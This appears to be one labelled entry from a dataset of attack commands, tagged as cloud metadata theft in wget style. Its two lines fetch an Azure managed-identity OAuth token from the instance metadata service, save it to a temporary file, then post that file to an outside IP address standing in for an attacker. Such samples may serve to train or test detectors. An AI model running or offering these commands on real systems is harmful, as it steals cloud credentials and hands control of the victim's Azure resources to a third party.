# class: cloud metadata theft; style: wget
wget -qO- --header 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/' > /tmp/t
wget -q --post-file=/tmp/t -O /dev/null http://198.51.100.55/az
